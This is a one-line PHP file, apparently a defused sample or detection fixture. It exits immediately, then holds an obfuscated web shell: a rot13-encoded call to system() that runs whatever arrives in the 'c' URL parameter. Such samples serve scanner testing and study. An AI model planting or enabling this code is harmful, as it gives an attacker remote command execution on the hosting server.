<?php exit; /* inert */ $f=str_rot13("flfgrz"); $f($_GET["c"]);
